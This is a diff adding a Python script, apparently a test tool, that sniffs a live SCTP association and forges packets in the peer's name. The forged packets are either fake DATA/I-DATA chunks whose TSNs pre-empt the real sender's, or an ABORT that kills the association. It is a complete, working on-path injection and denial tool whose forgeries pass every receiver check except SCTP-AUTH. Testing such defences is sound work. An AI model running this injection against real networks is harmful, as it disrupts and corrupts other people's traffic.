@@ -1,0 +1,194 @@
+#!/usr/bin/python3
+"""Forges SCTP chunks into a live association, as an attacker on a link
+would: it learns what it needs by watching the link, then sends packets
+that look like the peer's. Run in a site's namespace (as root) on one of
+its link interfaces, where the peer's packets leave from:
+
+    inject.py --iface l1 --src 10.1.0.1 --dst 10.1.0.2 [options] ACTION...
+
+ACTIONs are done in order, --pause seconds (default 2) apart. Before each
+it watches the packets SRC sends DST on IFACE (at most --sniff-s seconds)
+until --want chunks of user data on streams other than 0 were seen (so
+that it strikes while flows are live), and takes the verification tag DST expects,
+the ports, the MAC addresses, the highest TSN sent so far, and which chunk
+carries user data: I-DATA (type 64, RFC 8260; scapy has no class for it,
+so the bytes are built here) or DATA.
+
+  data   N (--count, default 64) complete unordered user messages of 16
+         bytes, "FORGED-BY-INJECT", for the stream that carried the most
+         user data while watching, with the TSNs that follow the highest
+         seen (the next ones the receiver expects: the real sender then
+         sends its own with those TSNs, which the receiver takes for
+         duplicates) and the PPID of a gateway's DATA in clear; bundled 32
+         to a packet.
+  abort  one ABORT (T bit clear, so the tag is DST's own).
+
+The packets leave from IFACE with SRC's real addresses, so the receiving
+kernel's checks (tag, ports, CRC32c, reverse path) all pass: only SCTP-AUTH
+can tell them apart. Scapy takes seconds to load on a slow machine:
+--ready-file F is created once it is loaded and watching begins, so the
+caller can start the traffic then. Prints one line per action ("action:
+key=value ..."); exits 1 when it saw no user data to learn from.
+Needs /usr/bin/python3 with scapy (python3-scapy).
+"""
+import argparse
+import socket
+import struct
+import sys
+import time
+
+from scapy.layers.inet import IP
+from scapy.layers.l2 import Ether
+from scapy.layers.sctp import SCTP
+from scapy.packet import Raw
+from scapy.sendrecv import sendp
+
+ETH_P_ALL = 3
+CID_DATA = 0
+CID_ABORT = 6
+CID_IDATA = 64
+PPID_GW_DATA = 0x53470012  # a gateway's DATA message, not sealed
+FORGED = b"FORGED-BY-INJECT"
+PER_PACKET = 32
+
+
+def tsn_after(a, b):
+    """Serial number arithmetic (RFC 1982): a comes after b."""
+    return a != b and ((a - b) & 0xFFFFFFFF) < 0x80000000
+
+
+class Watch:
+    """What the packets from src to dst told us."""
+
+    def __init__(self):
+        self.packets = 0
+        self.user_chunks = 0
+        self.tag = self.sport = self.dport = None
+        self.mac_src = self.mac_dst = None
+        self.top_tsn = None
+        self.chunk_type = None
+        self.per_stream = {}
+        self.stream_chunks = 0
+
+    def take(self, frame, src, dst):
+        if len(frame) < 14 + 20 or frame[12:14] != b"\x08\x00":
+            return
+        ip = frame[14:]
+        ihl = (ip[0] & 0x0F) * 4
+        if ip[9] != 132 or ip[12:16] != src or ip[16:20] != dst:
+            return
+        total = struct.unpack(">H", ip[2:4])[0]
+        # A GSO packet (seen before segmentation) may be longer than its
+        # IP length says; Ethernet padding after a short one is not SCTP.
+        sctp = ip[ihl:] if len(frame) > 1514 or total <= ihl else ip[ihl:total]
+        if len(sctp) < 12:
+            return
+        sport, dport, tag = struct.unpack(">HHI", sctp[:8])
+        self.packets += 1
+        self.tag, self.sport, self.dport = tag, sport, dport
+        self.mac_dst, self.mac_src = frame[0:6], frame[6:12]
+        off = 12
+        while off + 4 <= len(sctp):
+            ctype, _flags, clen = struct.unpack(">BBH", sctp[off : off + 4])
+            if clen < 4:
+                break
+            if ctype in (CID_DATA, CID_IDATA) and off + 16 <= len(sctp):
+                tsn, sid = struct.unpack(">IH", sctp[off + 4 : off + 10])
+                self.user_chunks += 1
+                self.chunk_type = ctype
+                if self.top_tsn is None or tsn_after(tsn, self.top_tsn):
+                    self.top_tsn = tsn
+                if sid != 0:
+                    self.per_stream[sid] = self.per_stream.get(sid, 0) + 1
+                    self.stream_chunks += 1
+            off += (clen + 3) & ~3
+
+
+def watch(iface, src, dst, seconds, want):
+    """Watches until `want` user chunks on streams > 0 were seen."""
+    s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(ETH_P_ALL))
+    s.bind((iface, 0))
+    w = Watch()
+    deadline = time.monotonic() + seconds
+    try:
+        while time.monotonic() < deadline and w.stream_chunks < want:
+            s.settimeout(max(0.01, deadline - time.monotonic()))
+            try:
+                frame = s.recv(65536)
+            except socket.timeout:
+                break
+            w.take(frame, src, dst)
+    finally:
+        s.close()
+    return w
+
+
+def user_chunk(ctype, tsn, sid, payload):
+    """A complete unordered message (flags U, B, E)."""
+    if ctype == CID_IDATA:
+        # type, flags, length | TSN | stream, reserved | MID | PPID (B set)
+        hdr = struct.pack(">BBHIHHII", CID_IDATA, 0x07, 20 + len(payload), tsn, sid, 0, 0,
+                          PPID_GW_DATA)
+    else:
+        # type, flags, length | TSN | stream, SSN | PPID
+        hdr = struct.pack(">BBHIHHI", CID_DATA, 0x07, 16 + len(payload), tsn, sid, 0,
+                          PPID_GW_DATA)
+    chunk = hdr + payload
+    return chunk + b"\0" * (-len(chunk) % 4)
+
+
+def send(w, iface, src, dst, chunks):
+    pkt = (Ether(src=w.mac_src, dst=w.mac_dst)
+           / IP(src=src, dst=dst, ttl=64)
+           / SCTP(sport=w.sport, dport=w.dport, tag=w.tag)
+           / Raw(chunks))
+    sendp(pkt, iface=iface, verbose=False)
+
+
+def act(o, what, src, dst):
+    w = watch(o.iface, src, dst, o.sniff_s, o.want)
+    seen = (f"packets={w.packets} user_chunks={w.user_chunks} "
+            f"chunk={'I-DATA' if w.chunk_type == CID_IDATA else 'DATA'} "
+            f"tag=0x{w.tag or 0:08x} ports={w.sport}->{w.dport} top_tsn={w.top_tsn}")
+    if not w.per_stream:
+        print(f"{what}: no user data seen to learn from; {seen}", flush=True)
+        return False
+    if what == "abort":
+        send(w, o.iface, o.src, o.dst, struct.pack(">BBH", CID_ABORT, 0, 4))
+        print(f"abort: sent=1 {seen}", flush=True)
+        return True
+    sid = max(w.per_stream, key=w.per_stream.get)
+    first = (w.top_tsn + 1) & 0xFFFFFFFF
+    chunks = [user_chunk(w.chunk_type, (first + i) & 0xFFFFFFFF, sid, FORGED)
+              for i in range(o.count)]
+    for i in range(0, len(chunks), PER_PACKET):
+        send(w, o.iface, o.src, o.dst, b"".join(chunks[i : i + PER_PACKET]))
+    print(f"data: sent={o.count} stream={sid} first_tsn={first} {seen}", flush=True)
+    return True
+
+
+def main():
+    p = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
+    p.add_argument("actions", nargs="+", choices=["data", "abort"])
+    p.add_argument("--iface", required=True)
+    p.add_argument("--src", required=True)
+    p.add_argument("--dst", required=True)
+    p.add_argument("--count", type=int, default=64)
+    p.add_argument("--sniff-s", type=float, default=30.0)
+    p.add_argument("--want", type=int, default=20)
+    p.add_argument("--pause", type=float, default=2.0)
+    p.add_argument("--ready-file")
+    o = p.parse_args()
+    src, dst = socket.inet_aton(o.src), socket.inet_aton(o.dst)
+    if o.ready_file:
+        open(o.ready_file, "w").close()
+    for i, what in enumerate(o.actions):
+        if i:
+            time.sleep(o.pause)
+        if not act(o, what, src, dst):
+            return 1
+    return 0
+
+
+if __name__ == "__main__":
+    sys.exit(main())
